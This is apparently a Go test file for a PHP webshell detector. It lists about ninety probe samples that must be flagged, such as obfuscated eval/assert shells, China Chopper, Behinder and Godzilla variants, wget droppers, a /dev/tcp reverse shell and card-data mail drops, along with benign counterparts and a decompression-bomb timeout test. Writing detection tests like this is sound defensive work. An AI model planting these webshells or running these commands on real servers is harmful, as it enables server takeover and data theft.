package php

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"strings"
	"testing"
	"time"

	"github.com/yingji/yingji/internal/webshell/verdict"
)

// probes are webshell idioms written for these tests (never run): each must
// be reported with the rule given.
var probes = []struct{ name, rule, src string }{
	{"chopper one-liner", "php.exec-input", `<?php @eval($_POST['pass']);?>`},
	{"assert request", "php.exec-input", `<?php assert($_REQUEST["x"]);`},
	{"system get", "php.exec-input", `<?php system($_GET['cmd']);`},
	{"backtick", "php.exec-input", "<?php echo `{$_GET['c']}`;"},
	{"variable passes", "php.exec-input", `<?php $a = $_COOKIE['k']; $b = $a; passthru($b);`},
	{"variable function from input", "php.dynamic-call-input", `<?php $_GET['f']($_POST['x']);`},
	{"hidden system name", "php.hidden-call", `<?php $f = 'sys' . 'tem'; $f($x);`},
	{"rot13 name", "php.exec-input", `<?php $f = str_rot13('flfgrz'); $f($_POST[1]);`},
	{"base64 name", "php.exec-input", `<?php $f = base64_decode('YXNzZXJ0'); $f($_POST['z']);`},
	{"chr name", "php.exec-input", `<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($_REQUEST['a']);`},
	{"xor name", "php.exec-input", `<?php $f = ("#"^"|").("."^"~"); $g = "assert"; $g(${"_PO"."ST"}['x']);`},
	{"not name", "php.exec-input", "<?php $f = ~\"\x9e\x8c\x8c\x9a\x8d\x8b\"; $f($_POST['a']);"},
	{"hidden superglobal", "php.exec-input", `<?php $k = '_' . 'POST'; eval(${$k}['c']);`},
	{"globals superglobal", "php.exec-input", `<?php eval($GLOBALS['_GET']['c']);`},
	{"eval decoded layers", "php.eval-decoded", `<?php eval(gzinflate(base64_decode('S81JzlcoSS0u0S0oyi9JTVHISM3JyQcA')));`},
	{"eval decoded shell", "php.exec-input", `<?php eval(base64_decode('ZXZhbCgkX1BPU1RbJ2EnXSk7'));`},
	{"strrev assert", "php.exec-input", `<?php $a = strrev('tressa'); $a($_POST['c']);`},
	{"create_function", "php.exec-input", `<?php $f = create_function('', $_POST['c']); $f();`},
	{"create_function callback", "php.exec-input", `<?php preg_replace_callback('/.+/', create_function('$m', 'return assert($m[0]);'), $_REQUEST['op']);`},
	{"preg_replace e", "php.exec-input", `<?php preg_replace('/.*/e', $_POST['code'], '');`},
	{"array_map assert", "php.exec-input", `<?php array_map('assert', array($_POST['x']));`},
	{"call_user_func", "php.exec-input", `<?php call_user_func('system', $_GET['c']);`},
	{"usort callback", "php.dynamic-call-input", `<?php usort($_GET, $_POST['f']);`},
	{"register_shutdown", "php.exec-input", `<?php register_shutdown_function('assert', $_POST['x']);`},
	{"closure callback", "php.exec-input", `<?php array_map(function($c) { eval($c); }, $_POST);`},
	{"wrapper function", "php.exec-input", `<?php function run($c) { return shell_exec($c); } echo run($_POST['cmd']);`},
	{"wrapper two deep", "php.exec-input", `<?php function a($c) { b($c); } function b($d) { system($d); } a($_GET['x']);`},
	{"decoder function", "php.exec-input", `<?php function d($s) { return base64_decode(strrev($s)); } $f = d('=QHcpxWZ'); $f = 'system'; $f($_GET['c']);`},
	{"destruct gadget", "php.exec-input", `<?php class A { public $c; function __destruct() { eval($this->c); } } $o = new A; $o->c = $_POST['p'];`},
	{"include input", "php.include-input", `<?php include($_GET['page']);`},
	{"include php input", "php.include-input", `<?php include 'php://input';`},
	{"php input eval", "php.exec-input", `<?php eval(file_get_contents('php://input'));`},
	{"header input", "php.exec-input", `<?php eval($_SERVER['HTTP_X_CMD']);`},
	{"getallheaders", "php.exec-input", `<?php $h = getallheaders(); system($h['Cmd']);`},
	{"extract", "php.exec-input", `<?php extract($_POST); eval($code);`},
	{"parse_str", "php.exec-input", `<?php parse_str($_SERVER['QUERY_STRING'], $q); assert($q['a']);`},
	{"remote eval", "php.exec-input", `<?php eval(file_get_contents('http://evil.invalid/x.txt'));`},
	{"uploader", "php.upload", `<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']);`},
	{"uploader into a directory", "php.upload", `<?php $dir = dirname(__FILE__) . '/img/'; copy($_FILES['f']['tmp_name'], $dir . $_FILES['f']['name']);`},
	{"write shell", "php.write-input", `<?php file_put_contents($_POST['path'], $_POST['content']);`},
	{"ld_preload", "php.bypass", `<?php putenv("LD_PRELOAD=/tmp/x.so"); mail("a", "b", "c");`},
	{"reflection", "php.dynamic-call-input", `<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);`},
	{"image header", "php.exec-input", "GIF89a\n<?php eval($_POST[0]); ?>"},
	{"utf16", "php.exec-input", "\xff\xfe<\x00?\x00p\x00h\x00p\x00 \x00e\x00v\x00a\x00l\x00(\x00$\x00_\x00P\x00O\x00S\x00T\x00[\x001\x00]\x00)\x00;\x00"},
	{"self-concat obfuscator", "php.exec-input", `<?php $a = 'as'; $a .= 'se'; $a .= $a[0] === 'a' ? 'rt' : 'x'; $a($_POST['c']);`},
	{"branch input", "php.exec-input", `<?php if (isset($_GET['c'])) { $c = $_GET['c']; } else { $c = 'id'; } system($c);`},
	{"brace-less branch", "php.exec-input", `<?php $c = 'id'; if (!empty($_POST['c'])) $c = $_POST['c']; passthru($c);`},
	{"range chr", "php.exec-input", `<?php $r = range(0, 200); $f = chr($r[97]) . chr($r[115]) . chr($r[115]) . 'ert'; $f($_POST['x']);`},
	{"array keys", "php.exec-input", `<?php $p = array('a' => 1, 's' => 2, 'x' => 3); $k = array_keys($p); $f = $k[0] . $k[1] . $k[1] . 'ert'; $f($_POST['x']);`},
	{"method callback", "php.exec-input", `<?php $o = new ArrayObject(array($_REQUEST['x'] => 1)); $o->uksort('assert');`},
	{"sqlite function", "php.dynamic-call-input", `<?php $db = new SQLite3(':memory:'); $db->createFunction('f', $_REQUEST['e']); $db->query("SELECT f('x')");`},
	{"exec fallback", "php.exec-fallback", `<?php function x($c) { if (function_exists('exec')) exec($c); elseif (function_exists('shell_exec')) shell_exec($c); else system($c); } x('id');`},
	{"dropper command", "php.cmd-malicious", `<?php system("wget -q http://evil.invalid/x -O /tmp/x; chmod +x /tmp/x; /tmp/x");`},
	{"reverse shell command", "php.cmd-malicious", `<?php shell_exec("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");`},
	{"file browser", "php.file-manager", `<?php $f = $_GET['f']; if (is_dir($f)) { $d = opendir($f); while ($n = readdir($d)) echo $n; } else { readfile($f); }`},
	{"dropper string", "php.embedded-shell", `<?php fputs(fopen('x.php', 'w'), '<?php @eval($_POST["c"]); ?>');`},
	{"decoded dropper", "php.embedded-shell", `<?php file_put_contents('y.php', base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWydjJ10pOyA/Pg=='));`},
	{"unserialize gadget", "php.unserialize-gadget", `<?php class T { var $v = ''; function __destruct() { eval($this->v); } } unserialize($_GET['s']);`},
	{"eval of decoded file", "php.eval-decoder", `<?php eval(gzinflate(base64_decode(file_get_contents(__DIR__ . '/.cache'))));`},
	{"b374k lambda", "php.eval-decoded", `<?php $x = create_function('$p', 'eval(gzinflate(base64_decode($p)));'); $x('S81JzlcoSS0u0S0oyi9JTVHISM3JyQcA');`},
	{"register_globals form", "php.exec-input", "<form method=post><input type=text name=cmd><input type=submit></form>\n<?php if ($cmd) { system($cmd); } ?>"},
	{"escaped GLOBALS store", "php.exec-input", `<?php ${"\x47\x4c\x4f\x42\x41\x4c\x53"}['k'] = "\x61\x73\x73\x65\x72\x74"; $GLOBALS['k']($_POST['x']);`},
	{"file manager", "php.file-manager", `<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f; if (isset($_GET['del'])) unlink($_GET['del']);
		if (isset($_GET['read'])) readfile($_GET['read']); chmod($_POST['p'], 0777); rename($_POST['a'], $_POST['b']);`},
	{"computed GLOBALS store", "php.exec-input", `<?php $GLOBALS['t'] = "abcdefghijklmnopqrstuvwxyz_"; $GLOBALS[$GLOBALS['t'][5].$GLOBALS['t'][6]] = $GLOBALS['t'][18].$GLOBALS['t'][24].$GLOBALS['t'][18].$GLOBALS['t'][19].$GLOBALS['t'][4].$GLOBALS['t'][12];
		$GLOBALS[$GLOBALS['t'][5].$GLOBALS['t'][6]]($_POST['c']);`},
	{"xor decoder of a cookie", "php.exec-input", `<?php function x($s, $k) { $r = ""; for ($i = 0; $i < strlen($s); $i++) { $r .= chr(ord($s[$i]) ^ ord($k[$i % strlen($k)])); } return $r; }
		$q = NULL; foreach ($_COOKIE as $n => $v) { $q = $v; } $q = @unserialize(x(base64_decode($q), $n)); if (isset($q['k'])) { eval($q['d']); }`},
	{"remote dropper", "php.remote-dropper", `<?php function fetch($url, $file = "") { $file = empty($file) ? pathinfo($url, PATHINFO_BASENAME) : $file;
		$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); file_put_contents($file, curl_exec($ch)); }
		fetch("http://203.0.113.5/themes/t.php");`},
	{"tagless payload", "php.exec-input", "$c = $_POST['c'];\n@eval($c);\n"},
	{"filter callback", "php.exec-input", `<?php filter_var($_REQUEST['op'], FILTER_CALLBACK, array('options' => 'assert'));`},
	{"upload saved as a script", "php.upload", "<form enctype=multipart/form-data method=post><input name=userfile type=file></form>\n<?php move_uploaded_file($userfile, 'up.php');"},
	{"upload under the client's name after an empty directory", "php.upload", `<?php $dir = ""; $name = $_FILES['f']['name']; move_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);`},
	{"write then include", "php.exec-input", `<?php if (isset($_GET['c'])) { file_put_contents('./cache.txt', "<?php\n"); file_put_contents('./cache.txt', $_GET['c'], FILE_APPEND); require 'cache.txt'; }`},
	{"server values by position", "php.exec-input", `<?php $a = array_values($_SERVER); system("" . $a[6]);`},
	{"name assembled in a loop", "php.exec-input", `<?php $p = array('a', 's', 's', 'e', 'r', 't'); $f = ''; foreach ($p as $c) { $f .= $c; } $f($_REQUEST['c']);`},
	{"code decoded by a global loop", "php.exec-input", `<?php $e = "6576616c28245f4745545b2763275d293b"; $d = ""; for ($i = 0; $i < strlen($e); $i += 2) { $d .= chr(hexdec(substr($e, $i, 2))); } eval($d);`},
	{"shell without letters", "php.exec-input", "<?php $_ = \"\"; $_[+$_]++; $_ = $_ . \"\"; $a = $_[+\"\"]; $s = $a; for ($i = 0; $i < 18; $i++) { $s++; } $e = $a; for ($i = 0; $i < 4; $i++) { $e++; } $r = $a; for ($i = 0; $i < 17; $i++) { $r++; } $t = $r; $t++; $t++; $f = $a . $s . $s . $e . $r . $t; $f($_POST[1]);"},
	{"payload locked with a request password", "php.exec-input", `<?php function unlock($d, $k) { $k = md5($k); $d = base64_decode($d); $o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) - ord($k[$i % 32])); } return $o; }
		$f = create_function('', unlock('tn96sr2Ol5vGzrqtln16mo22nMqtrZ/Ofpqnnotifn+6jY5/uGiFl62Trp+VjaChlNCt1MKL0tiX', $_REQUEST['key'])); $f();`},
	{"remote copy", "php.remote-dropper", `<?php copy("http://203.0.113.5/x.txt", "../cache/index.php");`},
	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
	{"concealed drop", "php.mail-drop", `<?php $m = "Card: " . $_POST['cc'] . " CVV: " . $_POST['cvv'];
		$to = base64_decode('ZHJvcEBleGFtcGxlLmludmFsaWQ='); mail($to, "new card", $m);`},
	{"assembled drop", "php.mail-drop", `<?php $c = array('d', 'r', 'o', 'p', '@', 'x', '.', 'i', 'n'); $to = $c[0].$c[1].$c[2].$c[3].$c[4].$c[5].$c[6].$c[7].$c[8];
		mail($to, "login", $data);`},
	{"remote dropper under the web root", "php.remote-dropper", `<?php function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); } $p = $_SERVER['DOCUMENT_ROOT'] . "/x.php"; $t = get('https://paste.invalid/raw/a'); $f = fopen($p, 'w'); fwrite($f, $t); fclose($f);`},
	{"reverse shell", "php.exec-input", `<?php $s = fsockopen($ip, 443); while ($c = fread($s, 1024)) { $p = proc_open($c, $d, $pipes); }`},
	{"socket command", "php.exec-input", `<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($s, $h, 4444); $c = socket_read($s, 2048); system($c);`},
	{"sql dumpfile", "php.sql-file-write", `<?php $c = 'cmd /c ' . $_POST['cmd']; $p = "ScriptText = \"$c\""; mysql_query("select '$p' into dumpfile 'c:/windows/system32/wbem/mof/x.mof';");`},
	{"sql udf", "php.sql-udf", `<?php mysql_query("Create Function cmdshell returns string soname '$dll'", $link);`},
	{"sql client", "php.sql-client", `<?php $c = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']); mysql_select_db($_POST['db'], $c); $r = mysql_query($_POST['sql'], $c); while ($row = mysql_fetch_row($r)) { echo implode("\t", $row); }`},
	{"xslt php function", "php.xslt-exec", `<?php $xsl = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:q="http://php.net/xsl"><xsl:template match="/r"><xsl:value-of select="q:function(\'system\',string(.))"/></xsl:template></xsl:stylesheet>'; $p = new XSLTProcessor(); $p->registerPHPFunctions(); $p->importStyleSheet(DOMDocument::loadXML($xsl)); echo $p->transformToXML(DOMDocument::loadXML('<r>' . $_GET['c'] . '</r>'));`},
	{"yaml callback", "php.exec-input", `<?php $t = $_POST['t']; yaml_parse("a: !x \"|.+|e\"", 0, $n, array("!" . $t => 'preg_replace'));`},
	{"doc comment payload", "php.exec-input", "<?php\n/**\n * system\n */\nclass K {}\n$r = new ReflectionClass('K');\n$d = $r->getDocComment();\n$f = substr($d, strpos($d, 'sys'), 6);\n$f($_POST['c']);"},
	{"by-reference assembly", "php.exec-input", `<?php function add(&$s, $c) { $s = $s . $c; } $f = 'sys'; add($f, 'tem'); $f($_GET['c']);`},
	{"register_globals set in a branch", "php.exec-input", "<form method=post><input type=text name=command></form>\n<?php if (isset($reset)) { $command = ''; } if ($command) { system($command); } ?>"},
	{"remote code with a computed query", "php.exec-input", `<?php $c = file_get_contents(sprintf('%s?%s', 'http://x.invalid/p.txt', uniqid())); eval($c);`},
	{"array_udiff_assoc callback", "php.exec-input", `<?php array_udiff_assoc(array($_REQUEST['p']), array(1), "assert");`},
	{"ld_preload environment", "php.bypass", `<?php $env = array('LD_PRELOAD' => '/tmp/x.so'); proc_open('id', array(), $p, '/tmp', $env);`},
	{"superglobal by computed name", "php.dynamic-call-input", `<?php ${'_' . $k}['a'](${'_' . $k}['b']);`},
	{"zlib wrapper read", "php.wrapper-read", `<?php $f = $_GET['file']; copy("compress.zlib://" . $f, $tmp);`},
}

// benign are legitimate code that uses the same functions: none may be
// reported.
var benign = []struct{ name, src string }{
	{"payment notification over a socket", `<?php $req = 'cmd=_notify-validate'; foreach ($_POST as $k => $v) { $req .= "&$k=" . urlencode($v); } $fp = fsockopen('ssl://ipn.invalid', 443); fputs($fp, $req); while (!feof($fp)) { $res = fgets($fp, 1024); if (strcmp($res, "VERIFIED") == 0) { echo "ok"; } }`},
	{"installer database check", `<?php $c = mysqli_connect($_POST['dbhost'], $_POST['dbuser'], $_POST['dbpass']); mysqli_query($c, "CREATE DATABASE IF NOT EXISTS " . $_POST['dbname']); mysqli_query($c, "SELECT VERSION()");`},
	{"reference cleanup", `<?php function clean(&$s) { $s = trim($s); } $q = $_GET['q']; clean($q); echo htmlspecialchars($q);`},
	{"yaml with plain callbacks", `<?php $d = yaml_parse($_POST['doc'], 0, $n, array('!date' => 'strtotime'));`},
	{"plugin listing", `<?php $r = mysql_query("SHOW PLUGINS SONAME LIKE '%password%'");`},
	{"cache file", `<?php $data = file_get_contents('https://api.invalid/feed.json'); file_put_contents(__DIR__ . '/cache/feed.json', $data);`},
	{"gz import of an upload", `<?php $fp = fopen("compress.zlib://" . $_FILES['dump']['tmp_name'], 'r');`},
	{"fixed command", `<?php echo shell_exec('uptime');`},
	{"escaped argument", `<?php system('ping -c 1 ' . escapeshellarg($_GET['host']));`},
	{"numeric argument", `<?php exec('kill ' . intval($_POST['pid']));`},
	{"template eval", `<?php function render($tpl) { $code = compile($tpl); eval('?>' . $code); } render(file_get_contents('tpl/index.html'));`},
	{"assert boolean", `<?php assert($count > 0); assert(is_array($x) && count($x) == 2);`},
	{"router callback", `<?php $action = $_GET['a']; call_user_func(array($this, 'action_' . $action));`},
	{"prefixed dispatcher", `<?php $fn = 'page_' . $_GET['p']; if (function_exists($fn)) { $fn(); }`},
	{"safe upload", `<?php $name = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], UPLOAD_DIR . '/' . md5($name) . '.jpg');`},
	{"config writer", `<?php file_put_contents('config.php', "<?php\n\$db = " . var_export($_POST['db'], true) . ";\n");`},
	{"include whitelist", `<?php $p = in_array($_GET['p'], array('home', 'about')) ? $_GET['p'] : 'home'; include 'pages/' . $p . '.php';`},
	{"chinese text", "<?php\n// 这是一个中文注释，包含大量的中文字符用于测试\n$title = '欢迎访问我们的网站，这里有最新的新闻和公告';\necho $title;"},
	{"preg_replace plain", `<?php echo preg_replace('/\s+/', ' ', $_POST['text']);`},
	{"array_map trim", `<?php $a = array_map('trim', $_POST['list']);`},
	{"usort closure", `<?php usort($rows, function($a, $b) { return strcmp($a['n'], $b['n']); });`},
	{"encoded image data", `<?php header('Content-Type: image/png'); echo base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==');`},
	{"installer eval", `<?php $ver = '8.1'; eval('$ok = version_compare(PHP_VERSION, "' . $ver . '", ">=");');`},
	{"read own file", `<?php $lines = file(__FILE__); echo count($lines);`},
	{"template variable", "<form><input name=title></form>\n<?php echo htmlspecialchars($title); include 'footer.php';"},
	{"contact form", `<?php mail('owner@example.com', 'Contact: ' . $_POST['subject'], $_POST['message'], 'From: ' . $_POST['email']);`},
	{"send me a copy", `<?php $h = 'From: noreply@example.com'; mail('owner@example.com', $_POST['s'], $_POST['m'], $h);
		if (!empty($_POST['copy'])) { mail($_POST['email'], $_POST['s'], $_POST['m'], $h); }`},
	{"configured recipient", `<?php $cfg = parse_ini_file('config.ini'); mail($cfg['admin'], 'Report', $body);`},
	{"split literal address", `<?php mail('webmaster@' . 'example.com', 'Cron done', 'ok');`},
	{"tagless text about PHP", "To read a form field use $_POST['name'] and never pass it to eval().\n"},
	{"filter callback trim", `<?php $n = filter_var($_POST['name'], FILTER_CALLBACK, array('options' => 'trim'));`},
	{"avatar upload", `<?php $n = md5(uniqid()) . ".jpg"; move_uploaded_file($_FILES['avatar']['tmp_name'], "avatars/" . $n);`},
	{"log then include config", `<?php file_put_contents('logs/access.log', $_SERVER['REQUEST_URI'] . "\n", FILE_APPEND); include 'config.php';`},
	{"table built in a loop", `<?php $rows = array(1, 2, 3); $html = ''; foreach ($rows as $r) { $html .= '<tr><td>' . htmlspecialchars($_GET['q']) . $r . '</td></tr>'; } echo $html; for ($i = 0; $i < 3; $i++) { $n = strtoupper('x'); }`},
	{"feed cache", `<?php $xml = file_get_contents("https://example.com/feed.xml"); file_put_contents("cache/feed.xml", $xml);`},
	{"downloaded archive", `<?php copy("https://downloads.example.com/plugin.zip", "/tmp/plugin.zip"); $z = new ZipArchive(); $z->open("/tmp/plugin.zip");`},
}

func TestProbes(t *testing.T) {
	for _, p := range probes {
		t.Run(p.name, func(t *testing.T) { expectRule(t, p.src, p.rule) })
	}
}

func TestBenign(t *testing.T) {
	for _, b := range benign {
		t.Run(b.name, func(t *testing.T) { expectClean(t, b.src) })
	}
}

// expectRule checks that src is reported by rule, with an explanation.
func expectRule(t *testing.T, src, rule string) {
	t.Helper()
	ds := Analyze([]byte(src))
	if verdict.Max(ds) < verdict.Report {
		t.Fatalf("not reported: %+v", ds)
	}
	for _, d := range ds {
		if d.Rule == rule && d.Score >= verdict.Report {
			if d.Why == "" || d.WhyZh == "" {
				t.Errorf("%s without explanation", d.Rule)
			}
			return
		}
	}
	t.Errorf("rule %s not reported; got %+v", rule, ds)
}

// expectClean checks that src is not reported.
func expectClean(t *testing.T, src string) {
	t.Helper()
	if ds := Analyze([]byte(src)); verdict.Max(ds) >= verdict.Report {
		t.Errorf("reported: %+v", ds)
	}
}

// TestFamilies checks that families are named from their traits.
func TestFamilies(t *testing.T) {
	cases := map[string]string{
		`<?php @eval($_POST['pass']);?>`: "China Chopper / AntSword",
		`<?php @session_start(); $key = "e45e329feb5d925b"; $_SESSION['k'] = $key; $post = file_get_contents("php://input");
		$post = openssl_decrypt($post, "AES128", $key); $arr = explode('|', $post); $func = $arr[0]; $params = $arr[1];
		class C { public function __invoke($p) { eval($p . ""); } } @call_user_func(new C(), $params);`: "Behinder",
		`<?php $pass = 'pass'; $payloadName = 'payload'; $key = '3c6e0b8a9c15224a';
		function encode($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $D[$i] = $D[$i] ^ $K[$i + 1 & 15]; } return $D; }
		if (isset($_POST[$pass])) { $data = encode(base64_decode($_POST[$pass]), $key);
		if (isset($_SESSION[$payloadName])) { $payload = encode($_SESSION[$payloadName], $key); eval($payload);
		echo substr(md5($pass . $key), 0, 16); } else { $_SESSION[$payloadName] = $data; } }`: "Godzilla",
	}
	for src, want := range cases {
		ds := Analyze([]byte(src))
		if len(ds) == 0 || ds[0].Family != want {
			t.Errorf("family of %.60q: got %+v, want %s", src, ds, want)
		}
	}
}

// TestExplanation checks that a detection names its source, its decoding
// steps and its sink with the right lines.
func TestExplanation(t *testing.T) {
	src := "<?php\n$k = $_POST['k'];\n$f = base64_decode('c3lzdGVt');\n$f($k);\n"
	ds := Analyze([]byte(src))
	for _, d := range ds {
		if d.Rule != "php.exec-input" {
			continue
		}
		if d.Source == nil || d.Source.Line != 2 || !strings.Contains(d.Source.What, "_POST") {
			t.Errorf("source = %+v", d.Source)
		}
		if d.Sink == nil || d.Sink.Line != 4 || d.Sink.What != "system" {
			t.Errorf("sink = %+v", d.Sink)
		}
		return
	}
	t.Fatalf("no exec-input detection: %+v", ds)
}

// TestHostile checks bounded time and memory on adversarial shapes.
func TestHostile(t *testing.T) {
	bomb := "<?php eval(gzinflate(base64_decode('" + gzBomb(t) + "')));"
	cases := map[string]string{
		"deep parens":     "<?php " + strings.Repeat("(", 200000) + "1" + strings.Repeat(")", 200000) + ";",
		"deep closures":   "<?php " + strings.Repeat("function(){", 5000) + strings.Repeat("}", 5000),
		"long concat":     "<?php $a = " + strings.Repeat("'a'.", 100000) + "'b'; eval($a);",
		"self growth":     "<?php $a = 'x';" + strings.Repeat("$a .= $a;", 64) + " eval($a);",
		"one long line":   "<?php $x = '" + strings.Repeat("QUJD", 4<<20) + "'; eval(base64_decode($x));",
		"many functions":  "<?php " + strings.Repeat("function f($a){return g($a);} function g($b){return f($b);} ", 2000) + "eval(f($_GET[1]));",
		"decompress bomb": bomb,
	}
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			done := make(chan struct{})
			go func() {
				ds := Analyze([]byte(src))
				if name == "decompress bomb" && !hasNote(ds, "decompression bomb") {
					t.Errorf("no note of the bomb: %+v", ds)
				}
				close(done)
			}()
			select {
			case <-done:
			case <-time.After(60 * time.Second): // a hang, not a speed check
				t.Fatal("analysis did not finish")
			}
		})
	}
}

func hasNote(ds []verdict.Detection, text string) bool {
	for _, d := range ds {
		if verdict.IsNote(d) && strings.Contains(d.Why, text) && d.WhyZh != "" {
			return true
		}
	}
	return false
}

func FuzzAnalyze(f *testing.F) {
	for _, p := range probes {
		f.Add([]byte(p.src))
	}
	for _, b := range benign {
		f.Add([]byte(b.src))
	}
	for _, p := range constructProbes {
		f.Add([]byte(p.src))
	}
	for _, b := range constructBenign {
		f.Add([]byte(b.src))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		ds := Analyze(b)
		for _, d := range ds {
			if d.Score < 0 || d.Score > 100 || d.Rule == "" {
				t.Fatalf("bad detection %+v", d)
			}
		}
		// Deciding only the verdict reports what the full analysis does.
		if ex, de := verdict.Max(ds) >= verdict.Report, verdict.Max(AnalyzeFor(b, verdict.Decide)) >= verdict.Report; ex != de {
			t.Fatalf("reported %v with Explain, %v with Decide", ex, de)
		}
	})
}

// gzBomb returns base64 of raw deflate data that inflates to 1 GiB of
// zeros.
func gzBomb(t *testing.T) string {
	var buf bytes.Buffer
	w, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	zero := make([]byte, 1<<20)
	for range 1024 {
		w.Write(zero)
	}
	w.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}
